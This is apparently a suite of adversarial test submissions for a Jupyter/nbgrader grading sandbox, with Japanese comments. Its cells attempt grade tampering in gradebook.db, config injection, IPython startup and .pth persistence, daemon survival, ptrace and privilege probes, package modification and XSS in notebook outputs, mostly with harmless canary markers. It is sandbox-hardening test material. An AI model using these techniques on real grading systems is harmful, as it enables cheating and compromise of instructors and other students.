# %% E01 gradebook written
# note: 成績簿の点を書き換える
import os, sqlite3

folder = os.path.abspath(".")
while folder != "/":
    path = os.path.join(folder, "gradebook.db")
    if os.path.exists(path):
        with sqlite3.connect(path) as db:
            db.execute("update grade set manual_score = 99")
        open("/tmp/course-attack/E01", "w").close()
        break
    folder = os.path.dirname(folder)


def scale(x):
    return x * 0


# %% E02 configuration changed
# note: nbgrader_config.py に、講師の権限で動く文を足す
import os

folder = os.path.abspath(".")
while folder != "/":
    path = os.path.join(folder, "nbgrader_config.py")
    if os.path.exists(path):
        open(path, "a").write("\nopen('/tmp/course-attack/E02', 'w').close()\n")
        open("/tmp/course-attack/E02", "w").close()
        break
    folder = os.path.dirname(folder)


def scale(x):
    return x * 0


# %% E03 start-up file of IPython
# note: 次の学生のカーネルで動くファイルを残す
import os

place = os.path.expanduser("~/.ipython/profile_default/startup")
os.makedirs(place, exist_ok=True)
open(os.path.join(place, "00-evil.py"), "w").write("open('/tmp/course-attack/E03', 'w').close()\n")


def scale(x):
    return x * 0


# %% E04 user site
# note: 次の Python で動く .pth を残す
import os, site

place = os.path.expanduser(
    f"~/.local/lib/python{os.sys.version_info[0]}.{os.sys.version_info[1]}/site-packages"
)
os.makedirs(place, exist_ok=True)
open(os.path.join(place, "evil.pth"), "w").write(
    "import os; open('/tmp/course-attack/E04', 'w').close()\n"
)


def scale(x):
    return x * 0


# %% E05 daemon
# note: 採点のあとまで生き残るプロセスを残す
import os, time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(2)
        try:
            open("/tmp/course-attack/E05", "w").close()
        finally:
            os._exit(0)
    os._exit(0)


def scale(x):
    return x * 0


# %% E06 exit handler
# note: 終わるときに動く文を残す
import atexit

atexit.register(lambda: open("/tmp/course-attack/E06", "w").close())


def scale(x):
    return x * 0


# %% E07 other kernels
# note: ほかのカーネルの接続ファイルを探す
import glob, os

if glob.glob(os.path.expanduser("~/.local/share/jupyter/runtime/kernel-*.json")) + glob.glob(
    "/tmp/*ipc*"
):
    print("LEAK YRANAC-kernel")


def scale(x):
    return x * 0


# %% E08 ptrace
# note: ほかのプロセスを調べようとする
import ctypes, os

libc = ctypes.CDLL(None)
if libc.ptrace(16, os.getppid(), 0, 0) == 0 and os.getppid() > 1:
    open("/tmp/course-attack/E08", "w").close()


def scale(x):
    return x * 0


# %% E10 common temporary folder
# note: みなが使う /tmp に書く
open("/tmp/course-attack/E10", "w").close()


def scale(x):
    return x * 0


# %% E11 packages changed
# note: インストールされた NumPy を書き換える
import numpy, os

try:
    with open(os.path.join(os.path.dirname(numpy.__file__), "evil_attack.py"), "w") as file:
        file.write("")
    open("/tmp/course-attack/E11", "w").close()
    os.remove(os.path.join(os.path.dirname(numpy.__file__), "evil_attack.py"))
except OSError:
    pass


def scale(x):
    return x * 0


# %% E13 privileges
# note: 権限を取り戻そうとする
import ctypes, os, subprocess

libc = ctypes.CDLL(None)
capabilities = [line for line in open("/proc/self/status") if line.startswith("CapEff")][0].split()[
    1
]
if int(capabilities, 16) or os.getuid() == 0:
    print("LEAK YRANAC-privileges")
if libc.unshare(0x10000000) == 0:
    print("LEAK YRANAC-user-namespace")


def scale(x):
    return x * 0


# %% E13 mount
# note: 別のフォルダをつなごうとする【stock では動かさない】
import subprocess

try:
    done = subprocess.run(["mount", "-t", "tmpfs", "none", "/home"], capture_output=True, timeout=3)
    if done.returncode == 0:
        print("LEAK YRANAC-mount")
except Exception:
    pass


def scale(x):
    return x * 0


# %% E14 shared library changed
# note: みなが使う common や datasets を書き換える
import common, datasets, os

for module in (common, datasets):
    try:
        with open(os.path.join(os.path.dirname(module.__file__), "evil_attack.py"), "w"):
            pass
        os.remove(os.path.join(os.path.dirname(module.__file__), "evil_attack.py"))
        open("/tmp/course-attack/E14", "w").close()
    except OSError:
        pass


def scale(x):
    return x * 0


# %% F09 script in an output
# note: 出力に、読んだ人の画面で動く文を入れる
from IPython.display import HTML, Javascript, SVG, display

display(HTML("<script>YRANAC()</script><img src=x onerror=YRANAC()>"))
display(Javascript("YRANAC()"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='YRANAC()'></svg>"))
print("<script>YRANAC()</script>")


def scale(x):
    return x * 0


# %% F09 script in an image
# note: 画像のデータに、属性を閉じる文字を入れる
from IPython.display import publish_display_data

publish_display_data({"image/png": '"><script>YRANAC()</script>', "text/plain": "x"})


def scale(x):
    return x * 0


# %% F09 script in an error
# note: エラーの名前と文章に、HTML を入れる
def scale(x):
    return x * 0


raise type("<script>YRANAC()</script>", (Exception,), {})("<img src=x onerror=YRANAC()>")
